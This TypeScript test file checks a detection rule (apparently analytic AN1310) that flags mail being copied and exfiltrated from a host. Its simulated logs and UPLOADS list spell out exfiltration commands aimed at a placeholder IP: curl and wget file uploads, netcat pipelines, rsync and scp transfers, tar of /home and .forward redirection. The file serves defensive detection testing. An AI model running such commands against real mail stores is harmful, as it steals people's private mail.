import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Process } from '../an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { type Delivered, HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { factorsOf, type Settings, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const OUT = '203.0.113.66';
const validated: Settings = { ValidatedHosts: ['ws1'] };

interface Facts {
  readonly log: HostLog;
  readonly mine: Delivered;
  readonly other: Delivered;
  readonly third: Delivered;
}

function mailHost(telemetry?: { files?: boolean; network?: boolean }): Facts {
  const log = new HostLog({ ...telemetry });
  if (telemetry?.files !== false) log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  if (telemetry?.network !== false) log.service('/usr/sbin/chronyd').connect('198.51.100.1', 123);
  const facts = { log, mine: log.deliver(), other: log.deliver({ to: 'buyer' }), third: log.deliver({ to: 'dev' }) };
  log.wait(MINUTE);
  return facts;
}

interface Condition {
  readonly says: string;
  readonly severity: string | null;
  readonly factors?: readonly string[];
  readonly never?: readonly string[];
  readonly settings?: Settings;
  readonly telemetry?: { files?: boolean; network?: boolean };
  readonly act: (facts: Facts) => void;
}

const curl = (shell: Process, path: string) =>
  shell.run(`/usr/bin/curl -T ${path} http://${OUT}/x`).read(path).connect(OUT, 80);

/** A backup program that has rsync(1) do its work. */
const rsnapshot = (by: Process, { path }: Delivered): void => {
  const rsync = by.run('/usr/bin/rsnapshot hourly').run(`/usr/bin/rsync -a Maildir x@${OUT}:`);
  rsync.read(path).connect(OUT, 22);
};

const CONDITIONS: Condition[] = [
  {
    says: 'an own message copied to a plain place',
    severity: null,
    act: ({ log, mine }) =>
      void log.shell('clerk').run(`/bin/cp ${mine.path} invoice.eml`).read(mine.path).write('/home/clerk/invoice.eml'),
  },
  {
    says: 'an own message copied to a hidden place',
    severity: 'informational',
    factors: ['staged in a hidden place', 'no transfer seen'],
    act: ({ log, mine }) =>
      void log.shell('clerk').run(`/bin/cp ${mine.path} .x`).read(mine.path).write('/home/clerk/.x'),
  },
  {
    says: 'an own message copied below a hidden folder',
    severity: 'informational',
    factors: ['staged in a hidden place'],
    act: ({ log, mine }) =>
      void log.shell('clerk').run(`/bin/cp ${mine.path} .c/x`).read(mine.path).write('/home/clerk/.c/x'),
  },
  {
    says: "somebody else's message read by a person, and nothing more",
    severity: 'informational',
    factors: ['mail of somebody else'],
    act: ({ log, other }) => void log.shell('clerk').run(`/bin/cat ${other.path}`).read(other.path),
  },
  {
    says: "somebody else's message read by a root job, and nothing more",
    severity: null,
    act: ({ log, other }) => void log.cron('root', 'x').run(`/bin/cat ${other.path}`).read(other.path),
  },
  {
    says: "the administrator's sudo: read for who logged in",
    severity: 'informational',
    factors: ['mail of somebody else'],
    act: ({ log, other }) => {
      const shell = log.shell('ops');
      shell.run(`/bin/cat ${other.path}`, { who: { ...shell.who, uid: 0 } }).read(other.path);
    },
  },
  {
    says: 'the same program reads and connects, on a host that was validated',
    severity: 'high',
    settings: validated,
    never: ['host not validated', 'many boxes', 'mail of somebody else'],
    act: ({ log, mine }) => void curl(log.shell('clerk'), mine.path),
  },
  {
    says: 'the same on a host that was not',
    severity: 'medium',
    factors: ['host not validated'],
    act: ({ log, mine }) => void curl(log.shell('clerk'), mine.path),
  },
  {
    says: 'a pipeline that is only inferred is medium even there',
    severity: 'medium',
    settings: validated,
    act: ({ log, mine }) => {
      const [cat, nc] = log.shell('clerk').pipeline(`/bin/cat ${mine.path}`, `/usr/bin/nc ${OUT} 9001`);
      cat?.read(mine.path);
      nc?.connect(OUT, 9001);
    },
  },
  {
    says: 'three boxes are many, two are not',
    severity: 'medium',
    factors: ['many boxes', 'mail of somebody else'],
    act: ({ log, mine, other, third }) => {
      const tar = log.cron('root', 'pack').run(`/bin/tar cf /dev/shm/a ${mine.path} ${other.path} ${third.path}`);
      tar.read(mine.path).read(other.path).read(third.path).connect(OUT, 80);
    },
  },
  {
    says: 'two boxes',
    severity: 'medium',
    never: ['many boxes'],
    act: ({ log, mine, other }) => {
      const tar = log.cron('root', 'pack').run(`/bin/tar cf /dev/shm/a ${mine.path} ${other.path}`);
      tar.read(mine.path).read(other.path).connect(OUT, 80);
    },
  },
  {
    says: 'a job of root over all of /home',
    severity: 'informational',
    factors: ['a scheduled job of root over far more than mail'],
    act: ({ log, mine }) => void log.cron('root', 'x').run('/bin/tar cf - /home').read(mine.path).connect(OUT, 80),
  },
  {
    says: 'root at a terminal over all of /home',
    severity: 'medium',
    never: ['a scheduled job of root over far more than mail'],
    act: ({ log, mine }) => void log.shell('root').run('/bin/tar cf - /home').read(mine.path).connect(OUT, 80),
  },
  {
    says: 'a job of the owner over the whole home',
    severity: 'informational',
    factors: ['a scheduled copy of a whole home by its owner'],
    act: ({ log, mine }) =>
      void log.cron('clerk', 'x').run('/bin/tar cf - /home/clerk').read(mine.path).connect(OUT, 80),
  },
  {
    says: "a job of one user over another's home",
    severity: 'medium',
    never: ['a scheduled copy of a whole home by its owner'],
    act: ({ log, other }) =>
      void log.cron('clerk', 'x').run('/bin/tar cf - /home/buyer').read(other.path).connect(OUT, 80),
  },
  {
    says: 'a job of the owner over a folder of the home',
    severity: 'medium',
    act: ({ log, mine }) =>
      void log.cron('clerk', 'x').run('/bin/tar cf - /home/clerk/Maildir').read(mine.path).connect(OUT, 80),
  },
  {
    says: 'an installed backup program',
    severity: 'informational',
    factors: ['a backup job of the system'],
    act: ({ log, mine }) => void log.service('/usr/bin/restic backup /srv').read(mine.path).connect(OUT, 443),
  },
  {
    says: "and one with an account of its own, over everybody's mail",
    severity: 'informational',
    factors: ['a backup job of the system'],
    act: ({ log, other }) =>
      void log.service('/usr/bin/restic backup /srv', 'backup').read(other.path).connect(OUT, 443),
  },
  {
    says: "root's job over a folder of a home that holds a store",
    severity: 'medium',
    never: ['a scheduled job of root over far more than mail'],
    act: ({ log }) =>
      void log
        .cron('root', 'x')
        .run('/usr/bin/rsync -a /home/clerk/.thunderbird b.example.net:x')
        .read('/home/clerk/.thunderbird/p.default/Mail/Local/Inbox')
        .connect(OUT, 22),
  },
  {
    says: 'and over all homes',
    severity: 'informational',
    factors: ['a scheduled job of root over far more than mail'],
    act: ({ log }) =>
      void log
        .cron('root', 'x')
        .run('/usr/bin/rsync -a /home b.example.net:x')
        .read('/home/clerk/.thunderbird/p.default/Mail/Local/Inbox')
        .connect(OUT, 22),
  },
  {
    says: 'a backup program of a home',
    severity: 'medium',
    never: ['a backup job of the system'],
    act: ({ log, mine }) =>
      void log.cron('clerk', 'x').run('/home/clerk/bin/restic backup Maildir').read(mine.path).connect(OUT, 443),
  },
  {
    says: 'an installed backup program that a person starts',
    severity: 'informational',
    factors: ['a backup job of the system'],
    act: ({ log, mine }) =>
      void log.shell('clerk').run('/usr/bin/restic backup Maildir').read(mine.path).connect(OUT, 443),
  },
  {
    says: "an installed backup program that a person starts over others' mail",
    severity: 'medium',
    never: ['a backup job of the system'],
    act: ({ log, other }) =>
      void log.shell('clerk').run('/usr/bin/restic backup /home/buyer/Maildir').read(other.path).connect(OUT, 443),
  },
  {
    says: "a person's job with a backup program over others' mail",
    severity: 'medium',
    never: ['a backup job of the system'],
    act: ({ log, other }) =>
      void log.cron('clerk', 'x').run('/usr/bin/restic backup /home/buyer/Maildir').read(other.path).connect(OUT, 443),
  },
  {
    says: "root's job with a backup program over everybody's mail",
    severity: 'informational',
    factors: ['a backup job of the system'],
    act: ({ log, mine, other }) =>
      void log
        .cron('root', 'x')
        .run('/usr/bin/restic backup /var/mail')
        .read(mine.path)
        .read(other.path)
        .connect(OUT, 443),
  },
  {
    says: 'what a backup program of cron starts',
    severity: 'informational',
    factors: ['a backup job of the system'],
    act: ({ log, mine }) => rsnapshot(log.cron('clerk', 'rsnapshot hourly'), mine),
  },
  {
    says: 'what a backup program of systemd starts',
    severity: 'informational',
    factors: ['a backup job of the system'],
    act: ({ log, mine }) => rsnapshot(log.service('/usr/bin/env', 'clerk'), mine),
  },
  {
    says: 'what a backup program starts that a person started',
    severity: 'medium',
    never: ['a backup job of the system'],
    act: ({ log, mine }) => rsnapshot(log.shell('clerk'), mine),
  },
  {
    says: 'without records of writes, an upload within ten minutes of the read',
    severity: 'low',
    telemetry: { files: false },
    settings: validated,
    act: ({ log, mine }) => {
      const shell = log.shell('clerk');
      shell.run(`/bin/cp ${mine.path} /tmp/a`).read(mine.path);
      log.wait(9 * MINUTE);
      shell.run(`/usr/bin/scp /tmp/b x@${OUT}:`).connect(OUT, 22);
    },
  },
  {
    says: 'without records of writes, an upload later than that',
    severity: null,
    telemetry: { files: false },
    act: ({ log, mine }) => {
      const shell = log.shell('clerk');
      shell.run(`/bin/cp ${mine.path} /tmp/a`).read(mine.path);
      log.wait(10.5 * MINUTE);
      shell.run(`/usr/bin/scp /tmp/b x@${OUT}:`).connect(OUT, 22);
    },
  },
  {
    says: 'without records of writes, a plain fetch after the read is no upload',
    severity: null,
    telemetry: { files: false },
    act: ({ log, mine }) => {
      const shell = log.shell('clerk');
      shell.run(`/bin/grep x ${mine.path}`).read(mine.path);
      log.wait(MINUTE);
      shell.run(`/usr/bin/curl http://${OUT}/news`).connect(OUT, 80);
    },
  },
  {
    says: 'a second name outside the store, packed by that name and uploaded',
    severity: 'high',
    settings: validated,
    act: ({ log, mine }) => {
      const shell = log.shell('clerk');
      shell.run(`/bin/mv ${mine.path} /home/clerk/a`).rename(mine.path, '/home/clerk/a');
      curl(shell, '/home/clerk/a');
    },
  },
  {
    says: 'a service of systemd as root over all of /home',
    severity: 'informational',
    factors: ['a scheduled job of root over far more than mail'],
    act: ({ log, mine }) => void log.service('/bin/tar cf - /home').read(mine.path).connect(OUT, 80),
  },
  {
    says: 'a shell that reads by itself where no connection is recorded',
    severity: 'informational',
    telemetry: { network: false },
    act: ({ log, mine }) => void log.shell('clerk').run(['/bin/bash', '-c', 'x']).read(mine.path),
  },
  {
    says: 'an installed program that reads where no connection is recorded',
    severity: null,
    telemetry: { network: false },
    act: ({ log, mine }) => void log.shell('clerk').run(`/bin/grep x ${mine.path}`).read(mine.path),
  },
  {
    says: 'a .forward and mail for the clerk that stays here',
    severity: 'informational',
    never: ['mail left by it'],
    act: ({ log }) => {
      log.shell('clerk').write('/home/clerk/.forward');
      log.deliver();
    },
  },
  {
    says: 'a .forward of the clerk, and mail of the clerk that leaves',
    severity: 'medium',
    factors: ['mail left by it'],
    act: ({ log }) => {
      log.shell('clerk').write('/home/clerk/.forward');
      log.forwarded('clerk@example.org', 'box@example.net');
    },
  },
  {
    says: 'a .forward of the clerk, and mail of the buyer that leaves',
    severity: 'informational',
    never: ['mail left by it'],
    act: ({ log }) => {
      log.shell('clerk').write('/home/clerk/.forward');
      log.forwarded('buyer@example.org', 'box@example.net');
    },
  },
  {
    says: 'mail that left before the .forward was written',
    severity: 'informational',
    never: ['mail left by it'],
    act: ({ log }) => {
      log.forwarded('clerk@example.org', 'box@example.net');
      log.wait(MINUTE);
      log.shell('clerk').write('/home/clerk/.forward');
    },
  },
];

const UPLOADS: readonly (readonly [string, boolean])[] = [
  [`/usr/bin/curl -T a http://${OUT}/x`, true],
  [`/usr/bin/curl -Ta http://${OUT}/x`, true],
  [`/usr/bin/curl --upload-file=a http://${OUT}/x`, true],
  [`/usr/bin/curl -F f=@a http://${OUT}/x`, true],
  [`/usr/bin/curl -d @a http://${OUT}/x`, true],
  [`/usr/bin/curl --data-binary=@a http://${OUT}/x`, true],
  ...['--data-ascii', '--data-urlencode', '--json', '--url-query'].flatMap((option): [string, boolean][] => [
    [`/usr/bin/curl ${option} @a http://${OUT}/x`, true],
    [`/usr/bin/curl ${option} status=done http://${OUT}/x`, false],
  ]),
  [`/usr/bin/curl --data-urlencode note@a http://${OUT}/x`, true],
  [`/usr/bin/curl -d ${'a'.repeat(65)} http://${OUT}/x`, true],
  [`/usr/bin/curl http://${OUT}/x -d`, true],
  [`/usr/bin/curl http://${OUT}/x -o cpu.txt`, false],
  [`/usr/bin/curl -d status=done http://${OUT}/x`, false],
  [`/usr/bin/curl -Fstatus=done http://${OUT}/x`, false],
  [`/usr/bin/wget --post-file=a http://${OUT}/x`, true],
  [`/usr/bin/curl --output=a http://${OUT}/x`, false],
  [`/usr/bin/wget --header=a http://${OUT}/x`, false],
  ['/usr/bin/rclone copy a out:', true],
  ['/usr/bin/mail -s a b@example.net', true],
  ['/usr/bin/mail -s a root', false],
];
for (const [line, uploads] of UPLOADS)
  CONDITIONS.push({
    says: `without records of writes, in the minutes after the read: ${line}`,
    severity: uploads ? 'low' : null,
    telemetry: { files: false },
    settings: validated,
    act: ({ log, mine }) => {
      const shell = log.shell('clerk');
      shell.run(`/bin/cp ${mine.path} /tmp/staged`).read(mine.path);
      log.wait(MINUTE);
      shell.run(line);
    },
  });

for (const { says, severity, factors = [], never = [], settings = {}, telemetry, act } of CONDITIONS) {
  test(`${says}: ${severity ?? 'nothing'}`, async () => {
    const facts = mailHost(telemetry);
    act(facts);
    const [alert] = (await scanLog(facts.log, { settings })).filter(each => each.analytic === 'AN1310');
    const told = alert === undefined ? '' : `${alert.title}\n${factorsOf(alert).join('\n')}`;
    assert.equal(alert?.severity ?? null, severity, told);
    if (alert === undefined) return;
    for (const factor of factors) assert.ok(factorsOf(alert).includes(factor), told);
    for (const factor of never) assert.ok(!factorsOf(alert).includes(factor), factor);
  });
}

for (const [wait, severity] of [
  [5, 'low'],
  [15, null],
] as const)
  test(`where nothing but the session joins them, an upload ${wait} minutes after the read: ${severity ?? 'nothing'}`, async () => {
    const log = new HostLog({ files: false, network: false });
    const message = log.deliver();
    log.wait(MINUTE);
    const shell = log.shell('clerk');
    shell.run(`/bin/grep x ${message.path}`);
    log.wait(wait * MINUTE);
    shell.run(`/usr/bin/curl -T report.pdf http://${OUT}/x`);
    const [alert] = (await scanLog(log)).filter(
      each => each.analytic === 'AN1310' && each.severity !== 'informational',
    );
    assert.equal(alert?.severity ?? null, severity);
    if (alert !== undefined) assert.ok(alert.factors.some(factor => factor.tunable?.name === 'TimeWindow'));
  });
